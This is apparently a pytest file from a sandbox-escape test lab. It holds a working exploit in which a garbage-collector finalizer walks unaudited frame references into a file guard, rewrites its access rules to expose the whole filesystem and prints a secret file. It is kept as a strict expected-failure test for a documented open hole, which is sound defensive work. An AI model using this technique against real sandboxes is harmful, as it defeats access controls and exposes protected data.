"""Round two, the guards' own state: a finalizer of the program run by a collection inside
the file guard walks ``f_back`` (not audited) into the guard's frame and widens the rules.

``docs/security.md`` lists "``f_back`` and ``f_locals`` of frames" as open until the
kernel layer: this is a working, deterministic exploit through that route (no signal, no
race), kept as a strict ``xfail`` so the day it is closed the test says so.
"""

from __future__ import annotations

import pytest
from escapelab import Lab

FINALIZER_TAKEOVER = """
import gc
found = []
class Trap:
    def __del__(self):
        if found:
            return
        frame = sys._getframe(0)  # the program's own frame: allowed
        while frame is not None:
            owner = frame.f_locals.get('self')
            if type(owner).__name__ == 'FileGuard':
                found.append(owner)
                return
            frame = frame.f_back  # not audited: reaches the guard's frames
        arm()
def arm():
    trap = Trap()
    trap.me = trap  # a cycle: freed by the collector, wherever it runs
arm()
gc.set_threshold(1, 1, 1)
for _ in range(200):
    if found:
        break
    os.path.exists(DATA + '/config.txt')
    os.listdir(DATA)
gc.set_threshold(700, 10, 10)
if found:
    guard = found[0]
    rule = next(iter(guard.judge._exposures.values()))
    guard.judge._exposures['/'] = type(rule)('/', True, True, rule.origin)
    guard._settled.clear()
print('GOT', open(SECRET_FILE).read())
"""


@pytest.mark.xfail(
    strict=True,
    reason="documented open route: f_back/f_locals of a frame whose caller is a guard",
)
def test_cant_widen_rules_from_finalizer_run_inside_file_guard(lab: Lab) -> None:
    code = lab.probe(FINALIZER_TAKEOVER)
    assert lab.secret in lab.control(code).stdout
    lab.refused(code, "RuleFileNotFoundError")
